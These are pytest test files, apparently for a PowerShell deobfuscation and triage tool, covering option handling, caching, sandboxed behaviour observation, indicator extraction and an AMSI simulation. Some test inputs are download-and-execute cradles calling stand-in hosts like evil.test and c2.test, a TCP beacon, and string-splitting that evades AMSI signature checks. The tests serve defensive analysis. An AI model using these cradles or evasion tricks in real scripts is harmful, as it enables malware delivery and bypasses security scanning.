        task = make_tasks(["a.ps1"], options=opts)[0]
        # the payload survives JSON (what crosses the JSONL boundary)
        wire = json.loads(json.dumps(task.options))
        assert PipelineOptions.from_dict(wire) == opts

    def test_service_request_body_round_trip(self):
        # The HTTP body carries option names as JSON keys; the service
        # rebuilds the typed record from them.
        body = {"rename": False, "policy": "wild-sample-paranoid"}
        opts = PipelineOptions.from_dict(
            {k: v for k, v in body.items()}
        )
        assert not opts.rename
        assert opts.policy == "wild-sample-paranoid"


class TestCanonicalDict:
    def test_defaults_are_empty(self):
        assert PipelineOptions().canonical_dict() == {}

    def test_only_non_defaults_appear(self):
        opts = PipelineOptions(rename=False)
        assert opts.canonical_dict() == {"rename": False}

    def test_spelled_out_defaults_vanish(self):
        spelled = PipelineOptions(rename=True, max_iterations=10)
        assert spelled.canonical_dict() == {}

    def test_default_policy_vanishes(self):
        # Pre-policy cache keys must survive the new field: the default
        # preset (however spelled) leaves the canonical dict unchanged.
        assert PipelineOptions(policy="Recovery_Strict").canonical_dict() \
            == {}

    def test_policy_spellings_converge(self):
        a = PipelineOptions(policy="wild-sample-paranoid")
        b = PipelineOptions(policy="WILD_SAMPLE_PARANOID")
        assert a.canonical_dict() == b.canonical_dict() == {
            "policy": "wild-sample-paranoid"
        }
