"""PipelineOptions: the typed options record and its compat shims.

Round-trips the same option set through every surface that carries it:
the dataclass itself, CLI flags, batch task payloads (JSONL), and the
service request body shape.
"""

import argparse
import json

import pytest

from repro import Deobfuscator, PipelineOptions, deobfuscate
from repro.options import DEFAULT_MAX_ITERATIONS, LEGACY_ALIASES


class TestConstruction:
    def test_defaults(self):
        opts = PipelineOptions()
        assert opts.rename and opts.reformat and opts.enforce_blocklist
        assert opts.max_iterations == DEFAULT_MAX_ITERATIONS
        assert opts.deadline_seconds is None

    def test_frozen(self):
        with pytest.raises(Exception):
            PipelineOptions().rename = False

    def test_replace_derives_variant(self):
        opts = PipelineOptions().replace(rename=False)
        assert not opts.rename
        assert PipelineOptions().rename  # original untouched

    def test_from_dict_maps_legacy_aliases_silently(self):
        opts = PipelineOptions.from_dict(
            {"timeout": 5.0, "step_limit": 100, "blocklist": False,
             "iterations": 3}
        )
        assert opts.deadline_seconds == 5.0
        assert opts.piece_step_limit == 100
        assert not opts.enforce_blocklist
        assert opts.max_iterations == 3

    def test_from_dict_rejects_unknown_keys(self):
        with pytest.raises(TypeError, match="unknown pipeline option"):
            PipelineOptions.from_dict({"no_such_option": 1})

    def test_from_dict_ignore_unknown(self):
        opts = PipelineOptions.from_dict(
            {"rename": False, "no_such_option": 1}, ignore_unknown=True
        )
        assert not opts.rename

    def test_every_legacy_alias_targets_a_real_field(self):
        names = PipelineOptions.field_names()
        for alias, target in LEGACY_ALIASES.items():
            assert alias not in names
            assert target in names


class TestKwargsShim:
    def test_deobfuscator_kwargs_warn_and_map(self):
        with pytest.warns(DeprecationWarning):
            tool = Deobfuscator(rename=False, timeout=2.5)
        assert tool.options.deadline_seconds == 2.5
        assert not tool.options.rename

    def test_module_deobfuscate_kwargs_warn(self):
        with pytest.warns(DeprecationWarning):
            result = deobfuscate("Write-Host hi", rename=False)
        assert result.valid_input

    def test_options_object_does_not_warn(self, recwarn):
        Deobfuscator(options=PipelineOptions(rename=False))
        assert not [w for w in recwarn.list
                    if issubclass(w.category, DeprecationWarning)]

    def test_options_and_kwargs_conflict(self):
        with pytest.raises(TypeError, match="not both"):
            Deobfuscator(options=PipelineOptions(), rename=False)

    def test_unknown_kwarg_raises(self):
        with pytest.raises(TypeError, match="unknown pipeline option"):
            Deobfuscator(frobnicate=True)

    def test_attribute_delegation(self):
        with pytest.warns(DeprecationWarning):
            tool = Deobfuscator(reformat=False)
        assert tool.reformat is False
        assert tool.max_iterations == DEFAULT_MAX_ITERATIONS
        with pytest.raises(AttributeError):
            tool.not_an_option


class TestRoundTrips:
    def test_dict_round_trip(self):
        opts = PipelineOptions(rename=False, deadline_seconds=3.0,
                               max_iterations=4)
        assert PipelineOptions.from_dict(opts.to_dict()) == opts
        assert PipelineOptions.from_dict(opts.canonical_dict()) == opts

    def test_cli_flag_round_trip(self):
        opts = PipelineOptions(rename=False, reformat=False,
                               deadline_seconds=2.0)
        flags = opts.to_cli_flags()
        parser = argparse.ArgumentParser()
        parser.add_argument("--no-rename", action="store_true")
        parser.add_argument("--no-reformat", action="store_true")
        parser.add_argument("--timeout", type=float, default=None)
        args = parser.parse_args(flags)
        assert PipelineOptions.from_cli_args(args) == opts

    def test_real_cli_parser_round_trip(self):
        from repro.cli import build_parser

        opts = PipelineOptions(rename=False, deadline_seconds=1.5)
        args = build_parser().parse_args(
            ["deobfuscate", "x.ps1"] + opts.to_cli_flags()
        )
        assert PipelineOptions.from_cli_args(args) == opts

    def test_batch_jsonl_round_trip(self):
        from repro.batch.task import make_tasks

        opts = PipelineOptions(rename=False, deadline_seconds=2.0)
        task = make_tasks(["a.ps1"], options=opts)[0]
        # the payload survives JSON (what crosses the JSONL boundary)
        wire = json.loads(json.dumps(task.options))
        assert PipelineOptions.from_dict(wire) == opts

    def test_service_request_body_round_trip(self):
        # The HTTP body carries option names as JSON keys; the service
        # rebuilds the typed record from them.
        body = {"rename": False, "timeout": 2.0}
        opts = PipelineOptions.from_dict(
            {k: v for k, v in body.items()}
        )
        assert not opts.rename
        assert opts.deadline_seconds == 2.0


class TestCanonicalDict:
    def test_defaults_are_empty(self):
        assert PipelineOptions().canonical_dict() == {}

    def test_only_non_defaults_appear(self):
        opts = PipelineOptions(rename=False)
        assert opts.canonical_dict() == {"rename": False}

    def test_spelled_out_defaults_vanish(self):
        spelled = PipelineOptions(rename=True, max_iterations=10)
        assert spelled.canonical_dict() == {}
