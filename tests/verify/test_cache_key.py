"""Cache-key stability across equivalent option constructions."""

from repro import PipelineOptions
from repro.service.cache import cache_key

SCRIPT = "Write-Host hi"


class TestCacheKeyStability:
    def test_equivalent_constructions_share_a_key(self):
        spelled_out = PipelineOptions(
            rename=False, reformat=True, max_iterations=10
        )
        minimal = PipelineOptions(rename=False)
        assert cache_key(SCRIPT, spelled_out.canonical_dict()) == cache_key(
            SCRIPT, minimal.canonical_dict()
        )

    def test_policy_spellings_share_a_key(self):
        via_variant = PipelineOptions(policy="Wild_Sample_Paranoid")
        via_canonical = PipelineOptions(policy="wild-sample-paranoid")
        assert cache_key(
            SCRIPT, via_variant.canonical_dict()
        ) == cache_key(SCRIPT, via_canonical.canonical_dict())

    def test_default_policy_keeps_pre_policy_keys(self):
        # A run that never selects a policy keys identically to one
        # that spells out the default preset — and identically to a
        # pre-policy release's key for the same options.
        assert cache_key(
            SCRIPT, PipelineOptions(policy="recovery-strict").canonical_dict()
        ) == cache_key(SCRIPT, PipelineOptions().canonical_dict())

    def test_policy_differentiates_keys(self):
        assert cache_key(
            SCRIPT,
            PipelineOptions(policy="wild-sample-paranoid").canonical_dict(),
        ) != cache_key(SCRIPT, PipelineOptions().canonical_dict())

    def test_all_defaults_equal_empty_options(self):
        assert cache_key(SCRIPT, PipelineOptions().canonical_dict()) == (
            cache_key(SCRIPT, None)
        )

    def test_different_options_differ(self):
        assert cache_key(
            SCRIPT, PipelineOptions(rename=False).canonical_dict()
        ) != cache_key(SCRIPT, PipelineOptions().canonical_dict())

    def test_future_option_addition_keeps_old_keys(self):
        # canonical_dict omits default-valued fields, so a record that
        # never set a (hypothetical future) option keys identically
        # whether or not the field exists yet.
        baseline = PipelineOptions(rename=False).canonical_dict()
        assert set(baseline) == {"rename"}


class TestServiceKeying:
    def test_service_normalizes_request_options(self):
        from repro.service import DeobfuscationService, ServiceConfig

        service = DeobfuscationService(
            ServiceConfig(jobs=1, cache_max_entries=8)
        )
        with service:
            first = service.submit(SCRIPT, options={"rename": False})
            second = service.submit(
                SCRIPT, options={"rename": False, "reformat": True}
            )
        assert first["cache_key"] == second["cache_key"]
        assert second["cache_hit"]

    def test_verify_requests_cache_separately(self):
        from repro.service import DeobfuscationService, ServiceConfig

        service = DeobfuscationService(
            ServiceConfig(jobs=1, cache_max_entries=8)
        )
        with service:
            plain = service.submit(SCRIPT)
            verified = service.submit(SCRIPT, verify=True)
        assert plain["cache_key"] != verified["cache_key"]
        assert "verify" not in plain
        assert verified["verify"]["verdict"] in (
            "equivalent", "divergent", "inconclusive"
        )
