"""Cache-key stability across equivalent option constructions."""

from repro import PipelineOptions
from repro.service.cache import cache_key

SCRIPT = "Write-Host hi"


class TestCacheKeyStability:
    def test_equivalent_constructions_share_a_key(self):
        spelled_out = PipelineOptions(
            rename=False, reformat=True, max_iterations=10
        )
        minimal = PipelineOptions(rename=False)
        assert cache_key(SCRIPT, spelled_out.canonical_dict()) == cache_key(
            SCRIPT, minimal.canonical_dict()
        )

    def test_legacy_alias_and_canonical_name_share_a_key(self):
        via_alias = PipelineOptions.from_dict({"timeout": 5.0})
        via_field = PipelineOptions(deadline_seconds=5.0)
        assert cache_key(SCRIPT, via_alias.canonical_dict()) == cache_key(
            SCRIPT, via_field.canonical_dict()
        )

    def test_all_defaults_equal_empty_options(self):
        assert cache_key(SCRIPT, PipelineOptions().canonical_dict()) == (
            cache_key(SCRIPT, None)
        )

    def test_different_options_differ(self):
        assert cache_key(
            SCRIPT, PipelineOptions(rename=False).canonical_dict()
        ) != cache_key(SCRIPT, PipelineOptions().canonical_dict())

    def test_future_option_addition_keeps_old_keys(self):
        # canonical_dict omits default-valued fields, so a record that
        # never set a (hypothetical future) option keys identically
        # whether or not the field exists yet.
        baseline = PipelineOptions(rename=False).canonical_dict()
        assert set(baseline) == {"rename"}


class TestServiceKeying:
    def test_service_normalizes_request_options(self):
        from repro.service import DeobfuscationService, ServiceConfig

        service = DeobfuscationService(
            ServiceConfig(jobs=1, cache_max_entries=8)
        )
        with service:
            first = service.submit(SCRIPT, options={"rename": False})
            second = service.submit(
                SCRIPT, options={"rename": False, "reformat": True}
            )
        assert first["cache_key"] == second["cache_key"]
        assert second["cache_hit"]

    def test_verify_requests_cache_separately(self):
        from repro.service import DeobfuscationService, ServiceConfig

        service = DeobfuscationService(
            ServiceConfig(jobs=1, cache_max_entries=8)
        )
        with service:
            plain = service.submit(SCRIPT)
            verified = service.submit(SCRIPT, verify=True)
        assert plain["cache_key"] != verified["cache_key"]
        assert "verify" not in plain
        assert verified["verify"]["verdict"] in (
            "equivalent", "divergent", "inconclusive"
        )
