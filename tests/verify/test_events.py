"""The behaviour-event log: recording, gating, bounding."""

from repro.runtime.host import (
    DEFAULT_MAX_EVENTS,
    BehaviorEvent,
    SandboxHost,
    clip_argument,
)
from repro.verify import observe_behavior


class TestEventGating:
    def test_events_off_by_default(self):
        host = SandboxHost()
        host.record("net.download_string", "http://a.test/")
        host.write_host("hi")
        host.record_event("command", "write-host", ("hi",))
        assert host.events == []
        assert host.events_dropped == 0

    def test_effects_still_recorded_when_events_off(self):
        host = SandboxHost()
        host.record("net.download_string", "http://a.test/")
        assert [e.kind for e in host.effects] == ["net.download_string"]

    def test_events_recorded_when_enabled(self):
        host = SandboxHost(collect_events=True)
        host.record("net.download_string", "http://a.test/", "GET")
        host.write_host("hi")
        assert [e.kind for e in host.events] == ["effect", "output"]
        effect = host.events[0]
        assert effect.name == "net.download_string"
        assert effect.arguments == ("http://a.test/",)
        assert effect.detail == "GET"

    def test_event_log_is_bounded(self):
        host = SandboxHost(collect_events=True, max_events=5)
        for index in range(9):
            host.record_event("output", "console", (str(index),))
        assert len(host.events) == 5
        assert host.events_dropped == 4

    def test_default_cap(self):
        assert SandboxHost().max_events == DEFAULT_MAX_EVENTS

    def test_arguments_are_clipped(self):
        host = SandboxHost(collect_events=True)
        host.record_event("command", "write-host", ("x" * 500,))
        recorded = host.events[0].arguments[0]
        assert len(recorded) < 500
        assert recorded == clip_argument("x" * 500)


class TestBehaviorEventSerialization:
    def test_round_trip(self):
        event = BehaviorEvent(
            kind="command", name="invoke-webrequest",
            arguments=("-uri:http://a.test/",), detail="x",
        )
        assert BehaviorEvent.from_dict(event.to_dict()) == event

    def test_to_dict_drops_empty_fields(self):
        assert BehaviorEvent(kind="output", name="console").to_dict() == {
            "kind": "output", "name": "console",
        }


class TestEvaluatorEventHooks:
    def test_command_events_carry_resolved_names(self):
        report = observe_behavior("WrItE-HoSt ('h'+'i')")
        commands = [e for e in report.events if e.kind == "command"]
        assert commands and commands[0].name == "write-host"
        assert commands[0].arguments == ("hi",)

    def test_effect_and_output_events_in_order(self):
        script = (
            "$c = New-Object Net.WebClient\n"
            "$c.DownloadString('http://a.test/payload')\n"
            "Write-Host done\n"
        )
        report = observe_behavior(script)
        kinds = [e.kind for e in report.events]
        # the download effect precedes the console output
        assert kinds.index("effect") < kinds.index("output")

    def test_member_calls_on_sandbox_objects_recorded(self):
        script = (
            "$c = New-Object Net.WebClient\n"
            "$c.DownloadString('http://a.test/')\n"
        )
        report = observe_behavior(script)
        members = [e.name for e in report.events if e.kind == "member"]
        assert "system.net.webclient.downloadstring" in members

    def test_pipeline_values_become_output_events(self):
        report = observe_behavior("Write-Output (2 + 3)")
        outputs = [e for e in report.events if e.kind == "output"]
        assert outputs and outputs[-1].arguments == ("5",)

    def test_blocked_commands_recorded_when_blocklist_on(self):
        report = observe_behavior(
            "Restart-Computer", enforce_blocklist=True
        )
        assert report.blocked
        blocked = [e for e in report.events if e.kind == "blocked"]
        assert blocked and blocked[0].name == "restart-computer"

    def test_recovery_path_records_no_events(self):
        # The pipeline's piece recovery constructs hosts with events
        # off; a full deobfuscation must not grow any event log.
        from repro import Deobfuscator

        result = Deobfuscator().deobfuscate("I`E`X ('wri'+'te-host hi')")
        assert result.script  # sanity: the run did something
