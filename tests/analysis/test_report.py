"""Tests for the triage report (the composed analyst API)."""

from repro import PipelineOptions, Deobfuscator
from repro.analysis.report import build_report

CASE = (
    "$u = 'http://ev'+'il.test/x.ps1'\n"
    "(New-Object Net.WebClient).DownloadString($u) | iex"
)


class TestBuildReport:
    def test_full_loop(self):
        report = build_report(CASE)
        assert report.deobfuscation.changed
        assert report.score_before.score > report.score_after.score
        assert "http://evil.test/x.ps1" in report.key_info.urls
        assert report.behavior_consistent
        assert report.behavior_original.has_network_behavior

    def test_indicators_sorted_and_flat(self):
        report = build_report(CASE)
        indicators = report.indicators()
        assert "http://evil.test/x.ps1" in indicators
        assert indicators == sorted(indicators[:len(report.key_info.urls)]) + indicators[len(report.key_info.urls):]

    def test_score_reduction_bounds(self):
        report = build_report(CASE)
        assert 0.0 <= report.score_reduction <= 1.0

    def test_clean_script_report(self):
        report = build_report("Write-Host hello")
        assert report.score_before.score == 0
        assert report.score_reduction == 0.0
        assert report.behavior_consistent

    def test_render_contains_sections(self):
        text = build_report(CASE).render()
        assert "triage report" in text
        assert "ioc: http://evil.test/x.ps1" in text
        assert "behaviour preserved by deobfuscation: yes" in text
        assert "deobfuscated script" in text

    def test_custom_tool(self):
        tool = Deobfuscator(options=PipelineOptions(rename=False))
        report = build_report("$xqzw = 'a'+'b'", tool=tool)
        assert "$xqzw" in report.deobfuscation.script

    def test_responses_forwarded(self):
        responses = {"http://a.test/1": "write-output 'stage2'"}
        script = (
            "iex ((New-Object Net.WebClient)"
            ".DownloadString('http://a.test/1'))"
        )
        report = build_report(script, responses=responses)
        assert report.behavior_consistent


class TestCliReport:
    def test_report_command(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "s.ps1"
        path.write_text(CASE)
        code = main(["report", str(path)])
        out = capsys.readouterr().out
        assert code == 0
        assert "triage report" in out
