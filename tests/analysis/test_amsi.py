"""Tests for the AMSI simulation (paper Section V-B)."""

from repro import deobfuscate
from repro.analysis.amsi import amsi_view


class TestAmsiView:
    def test_sees_invoked_layers(self):
        report = amsi_view("iex ('wri'+'te-host hi')")
        assert "write-host hi" in report.buffers

    def test_sees_nested_layers(self):
        script = "iex 'iex ''write-host deep'''"
        report = amsi_view(script)
        assert report.buffers[-1] == "write-host deep"
        assert len(report.buffers) == 3  # original + two layers

    def test_sees_encoded_command(self):
        import base64

        blob = base64.b64encode("write-host enc".encode("utf-16-le")).decode()
        report = amsi_view(f"powershell -e {blob}")
        # AMSI scans what the child shell receives; the decode happens
        # inside the engine, so the buffer is the command line itself plus
        # the executed content surfaces through write-host behaviour.
        assert report.buffers[0].startswith("powershell")

    def test_signature_match(self):
        report = amsi_view("iex ('write-host ' + 'AmsiUtils')")
        assert report.would_match("amsiutils")


class TestAmsiBypass:
    """The paper's Section V-B: trivially bypassable views."""

    def test_concat_without_invocation_is_invisible(self):
        # 'Amsi'+'Utils' never passes through an invoker: AMSI sees only
        # the original text, never the assembled string.
        script = "$marker = 'Amsi'+'Utils'"
        report = amsi_view(script)
        assert not report.would_match("amsiutils")
        # AST-based recovery assembles it statically.
        result = deobfuscate(script)
        assert "AmsiUtils" in result.script

    def test_guarded_script_is_invisible(self):
        script = (
            "if ($env:USERNAME -eq 'user') { exit }\n"
            "iex ('write-host ' + 'Amsi' + 'Utils')"
        )
        report = amsi_view(script)
        # The guard exits before the invoker: AMSI never sees the
        # assembled marker.
        assert not report.would_match("amsiutils")
        result = deobfuscate(script)
        assert "AmsiUtils" in result.script

    def test_execution_still_happens_through_tap(self):
        report = amsi_view("iex 'write-output 42'")
        assert report.error is None
        assert "write-output 42" in report.buffers
