"""Tests for the behaviour sandbox (Table IV's measurement)."""

from repro import deobfuscate
from repro.analysis import observe_behavior
from repro.verify import same_network_behavior


class TestObservation:
    def test_downloader_records_network(self):
        report = observe_behavior(
            "(New-Object Net.WebClient)"
            ".DownloadString('https://c2.test/payload')"
        )
        assert report.has_network_behavior
        assert ("net.download_string", "c2.test") in report.network_signature

    def test_tcp_beacon(self):
        report = observe_behavior(
            "$s = New-Object Net.Sockets.TcpClient('10.1.2.3', 4444)"
        )
        assert ("net.tcp_connect", "10.1.2.3") in report.network_signature

    def test_recon_script_has_no_network(self):
        report = observe_behavior("$u = $env:USERNAME; Write-Output $u")
        assert not report.has_network_behavior

    def test_obfuscated_downloader_still_fires(self):
        # Behaviour survives obfuscation: the sandbox executes through it.
        script = (
            "IEX ('(New-Object Net.WebClient).DownloadString('"
            "+\"'\"+'https://c2.test/x'+\"'\"+')')"
        )
        report = observe_behavior(script)
        assert report.has_network_behavior

    def test_multi_stage_download(self):
        responses = {
            "https://c2.test/stage1": (
                "(New-Object Net.WebClient)"
                ".DownloadString('https://c2.test/stage2')"
            )
        }
        script = (
            "iex ((New-Object Net.WebClient)"
            ".DownloadString('https://c2.test/stage1'))"
        )
        report = observe_behavior(script, responses=responses)
        targets = {e.target for e in report.effects}
        assert "https://c2.test/stage1" in targets
        assert "https://c2.test/stage2" in targets

    def test_failing_statement_does_not_stop_observation(self):
        script = (
            "Invoke-TotallyUnknownThing\n"
            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
        )
        report = observe_behavior(script)
        assert report.has_network_behavior

    def test_runaway_loop_is_bounded(self):
        report = observe_behavior("while ($true) { $x = 1 }")
        assert report.error  # step limit reported, no hang


class TestConsistency:
    def test_identical_scripts_consistent(self):
        script = "(New-Object Net.WebClient).DownloadString('http://a.b/')"
        assert same_network_behavior(script, script)

    def test_deobfuscated_downloader_consistent(self):
        script = (
            "$u = 'http://ev'+'il.test/x.ps1'\n"
            "(New-Object Net.WebClient).DownloadString($u) | iex"
        )
        result = deobfuscate(script)
        assert result.changed
        assert same_network_behavior(script, result.script)

    def test_dropped_network_detected(self):
        original = (
            "(New-Object Net.WebClient).DownloadString('http://a.b/')"
        )
        broken = "'System.Net.WebClient'.DownloadString('http://a.b/')"
        assert not same_network_behavior(original, broken)

    def test_li_style_replacement_breaks_behavior(self):
        from repro.baselines import LiEtAl

        original = "New-Object Net.WebClient | out-null\n" + (
            "(New-Object Net.Sockets.TcpClient('9.9.9.9', 443)).Close()"
        )
        result = LiEtAl().deobfuscate(original)
        if result.changed:
            assert not same_network_behavior(original, result.script) or (
                result.script == original
            )
