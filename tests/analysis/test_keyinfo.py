"""Tests for key-information extraction (Fig 5's measurement)."""

from repro.analysis import extract_key_info


class TestUrls:
    def test_simple_url(self):
        info = extract_key_info(
            "iwr 'https://test.com/malware.txt'"
        )
        assert info.urls == {"https://test.com/malware.txt"}

    def test_http_and_ftp(self):
        info = extract_key_info("'http://a.b/x' 'ftp://c.d/y'")
        assert len(info.urls) == 2

    def test_url_with_port_and_query(self):
        info = extract_key_info("'https://x.io:8443/a?b=c&d=e'")
        assert "https://x.io:8443/a?b=c&d=e" in info.urls

    def test_no_url(self):
        assert extract_key_info("write-host hello").urls == set()


class TestIps:
    def test_valid_ip(self):
        info = extract_key_info("TcpClient('45.77.12.9', 443)")
        assert info.ips == {"45.77.12.9"}

    def test_octet_range_checked(self):
        assert extract_key_info("'999.1.1.1'").ips == set()

    def test_version_string_not_matched(self):
        info = extract_key_info("'version 5.1.19041.1237'")
        # 4-part dotted numbers with valid octets do match (the paper
        # counts syntactic IPs) but 5-part sequences must not.
        assert "5.1.19041.1237" not in info.ips

    def test_ip_in_url(self):
        info = extract_key_info("'http://91.219.236.18/x.ps1'")
        assert "91.219.236.18" in info.ips


class TestPs1Files:
    def test_windows_path(self):
        info = extract_key_info(r"& C:\Users\Public\run.ps1")
        assert r"C:\Users\Public\run.ps1" in info.ps1_files

    def test_env_based_path(self):
        info = extract_key_info(r'"$env:TEMP\up.ps1"')
        assert any(p.endswith("up.ps1") for p in info.ps1_files)

    def test_url_ps1(self):
        info = extract_key_info("'https://x.y/stage2.ps1'")
        assert any(p.endswith("stage2.ps1") for p in info.ps1_files)
        assert info.urls


class TestPowershellCommands:
    def test_plain(self):
        info = extract_key_info("powershell -nop -e aGk=")
        assert len(info.powershell_commands) == 1

    def test_exe(self):
        info = extract_key_info("powershell.exe -File x.ps1")
        assert info.powershell_commands

    def test_pwsh(self):
        info = extract_key_info("pwsh -c 'gci'")
        assert info.powershell_commands

    def test_none(self):
        assert extract_key_info("gci").powershell_commands == set()


class TestAggregation:
    def test_total(self):
        info = extract_key_info(
            "powershell -c ((New-Object Net.WebClient)"
            ".DownloadString('http://1.2.3.4/s.ps1'))"
        )
        assert info.total >= 3  # url + ip + ps1 (+ powershell)

    def test_intersect(self):
        left = extract_key_info("'http://a.b/'")
        right = extract_key_info("'http://a.b/' 'http://c.d/'")
        both = left.intersect(right)
        assert both.urls == {"http://a.b/"}

    def test_counts_keys(self):
        counts = extract_key_info("x").counts()
        assert set(counts) == {
            "urls", "ips", "ps1_files", "powershell_commands"
        }
