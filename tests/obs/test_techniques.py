"""Technique telemetry (Table I) tests.

Unit coverage for :mod:`repro.obs.techniques` plus the satellite
acceptance test: generate a corpus at a known technique mix and assert
the pipeline's aggregated technique prevalence matches the generator's
ground truth within tolerance.
"""

import pytest

from repro import PipelineOptions, deobfuscate
from repro.dataset.generator import generate_corpus
from repro.obs.techniques import (
    LAYER_TAGS,
    merge_technique_counts,
    prevalence_rows,
    render_prevalence,
    tag_techniques,
    technique_level,
    technique_vocabulary,
)


class TestVocabulary:
    def test_vocabulary_covers_detectors_and_layers(self):
        from repro.scoring.detectors import DETECTORS

        vocabulary = technique_vocabulary()
        assert set(DETECTORS) <= set(vocabulary)
        assert set(LAYER_TAGS) <= set(vocabulary)
        assert len(vocabulary) == len(set(vocabulary))

    def test_detector_tags_have_levels_layer_tags_do_not(self):
        assert technique_level("concat") in (1, 2, 3)
        for tag in LAYER_TAGS:
            assert technique_level(tag) is None


class TestTagTechniques:
    def test_detects_surface_markers(self):
        tags = tag_techniques("$a = 'ma'+'lware'; Wri`te-Host $a\n")
        assert tags.get("concat") == 1
        assert tags.get("ticking") == 1
        assert set(tags.values()) == {1}

    def test_clean_script_is_untagged(self):
        tags = tag_techniques("Get-Process | Sort-Object CPU\n")
        assert "concat" not in tags
        assert not any(tag.startswith("layer_") for tag in tags)

    def test_layers_contribute_hidden_markers(self):
        clean = "Write-Host ok\n"
        layered = "'x'\n"  # surface shows nothing
        tags = tag_techniques(
            layered, layers=["$y = 'pay'+'load'\n" + clean]
        )
        assert tags.get("concat") == 1

    def test_unwrap_kinds_become_layer_tags(self):
        tags = tag_techniques(
            "Write-Host hi\n",
            unwrap_kinds={"iex": 2, "encoded_command": 0},
        )
        assert tags.get("layer_iex") == 1
        assert "layer_encoded_command" not in tags

    def test_tags_are_presence_not_occurrence(self):
        tags = tag_techniques("$a='a'+'b'; $c='d'+'e'; $f='g'+'h'\n")
        assert tags.get("concat") == 1


class TestAggregation:
    def test_merge_sums_counts(self):
        totals = {}
        merge_technique_counts(totals, {"concat": 1, "ticking": 1})
        merge_technique_counts(totals, {"concat": 1})
        assert totals == {"concat": 2, "ticking": 1}

    def test_prevalence_rows_sorted_by_count_then_name(self):
        rows = prevalence_rows(
            {"b_tag": 2, "a_tag": 2, "concat": 5}, total_samples=10
        )
        assert [row[0] for row in rows] == ["concat", "a_tag", "b_tag"]
        assert rows[0][2] == 5
        assert rows[0][3] == pytest.approx(50.0)

    def test_render_prevalence_shape(self):
        lines = render_prevalence({"concat": 3, "layer_iex": 1}, 4)
        assert lines[0] == "technique prevalence (Table I):"
        assert any("concat" in line and "L2" in line for line in lines)
        assert any("layer_iex" in line and "--" in line for line in lines)

    def test_render_prevalence_empty(self):
        assert render_prevalence({}, 0) == []


class TestTableIPrevalence:
    """Satellite: corpus at a known mix vs recovered prevalence."""

    CORPUS_SIZE = 8

    @pytest.fixture(scope="class")
    def corpus_counts(self):
        samples = generate_corpus(count=self.CORPUS_SIZE, seed=1104)
        truth = {}
        recovered = {}
        options = PipelineOptions(rename=False, reformat=False)
        for sample in samples:
            for name in sample.techniques:
                truth[name] = truth.get(name, 0) + 1
            result = deobfuscate(sample.script, options=options)
            assert result.valid_input
            merge_technique_counts(recovered, result.stats.techniques)
        return truth, recovered

    def test_prevalent_truth_techniques_are_recovered(self, corpus_counts):
        truth, recovered = corpus_counts
        for name, count in truth.items():
            if count < 3:
                continue  # rare tags are allowed to slip past detectors
            assert recovered.get(name, 0) >= round(0.5 * count), (
                f"technique {name}: ground truth {count}, "
                f"recovered {recovered.get(name, 0)}"
            )

    def test_counts_stay_within_sample_total(self, corpus_counts):
        _, recovered = corpus_counts
        vocabulary = set(technique_vocabulary())
        for name, count in recovered.items():
            assert name in vocabulary
            assert 1 <= count <= self.CORPUS_SIZE

    def test_stats_merge_reproduces_manual_aggregation(self):
        from repro.obs import PipelineStats

        a = PipelineStats(techniques={"concat": 1, "ticking": 1})
        b = PipelineStats(techniques={"concat": 1})
        merged = PipelineStats()
        merged.merge(a)
        merged.merge(b)
        assert merged.techniques == {"concat": 2, "ticking": 1}
