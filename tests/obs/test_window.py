"""Deterministic tests for rolling-window aggregation.

Every test drives a :class:`~repro.obs.window.RollingWindow` with a
fake clock, so minute rollover, pruning, and fleet merges are exact —
no sleeps, no wall-clock flakiness.
"""

import threading

from repro.obs.window import (
    WINDOW_MINUTES,
    RollingWindow,
    merge_window_dicts,
)


class FakeClock:
    def __init__(self, start: float = 10_000 * 60.0):
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def make_window(clock=None) -> RollingWindow:
    return RollingWindow(clock=clock or FakeClock())


class TestFeedingAndSnapshot:
    def test_counters_and_rates(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)
        for _ in range(6):
            window.incr("requests")
        window.incr("errors", 2)
        window.incr("cache_hits", 3)
        window.incr("verified", 4)
        window.incr("divergent", 1)
        snap = window.snapshot()
        assert set(snap) == {f"{m}m" for m in WINDOW_MINUTES}
        one = snap["1m"]
        assert one["requests"] == 6
        assert one["errors"] == 2
        assert one["request_rate"] == round(6 / 60, 4)
        assert one["error_rate"] == round(2 / 6, 4)
        assert one["cache_hit_ratio"] == round(3 / 6, 4)
        assert one["divergence_rate"] == round(1 / 4, 4)

    def test_empty_window_is_all_zero(self):
        snap = make_window().snapshot()
        assert snap["5m"]["requests"] == 0
        assert snap["5m"]["error_rate"] == 0.0
        assert snap["5m"]["latency_p95_ms"] == 0.0
        assert "exemplar" not in snap["5m"]

    def test_latency_quantiles_and_exemplar(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)
        for _ in range(99):
            window.observe(0.01, "fast-trace")
        window.observe(4.0, "slow-trace")
        one = window.snapshot()["1m"]
        assert one["observations"] == 100
        assert one["latency_p50_ms"] <= 100
        assert one["latency_p95_ms"] < one["latency_p95_ms"] + 1
        assert one["exemplar"]["trace_id"] == "slow-trace"
        assert one["exemplar"]["value_ms"] >= 1000


class TestRollover:
    def test_old_minutes_leave_the_small_window_first(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)
        window.incr("requests")
        window.observe(0.5, "early")
        clock.advance(3 * 60)
        window.incr("requests")
        snap = window.snapshot()
        assert snap["1m"]["requests"] == 1  # only the fresh one
        assert snap["5m"]["requests"] == 2  # both
        assert snap["1m"]["observations"] == 0
        assert snap["5m"]["exemplar"]["trace_id"] == "early"

    def test_minutes_beyond_retention_are_pruned(self):
        clock = FakeClock()
        window = RollingWindow(minutes=15, clock=clock)
        window.incr("requests")
        clock.advance(20 * 60)
        window.incr("requests")  # triggers the prune
        assert len(window._slots) == 1
        assert window.snapshot()["15m"]["requests"] == 1

    def test_observations_in_distinct_minutes_accumulate(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)
        for _ in range(3):
            window.incr("requests")
            clock.advance(60)
        snap = window.snapshot()
        assert snap["5m"]["requests"] == 3
        assert snap["1m"]["requests"] == 0  # just rolled into a new minute


class TestSerializationAndMerge:
    def test_round_trip(self):
        clock = FakeClock()
        window = RollingWindow(clock=clock)
        window.incr("requests", 5)
        window.observe(0.2, "t1")
        restored = RollingWindow.from_dict(window.to_dict(), clock=clock)
        assert restored.snapshot() == window.snapshot()

    def test_merge_sums_minute_by_minute(self):
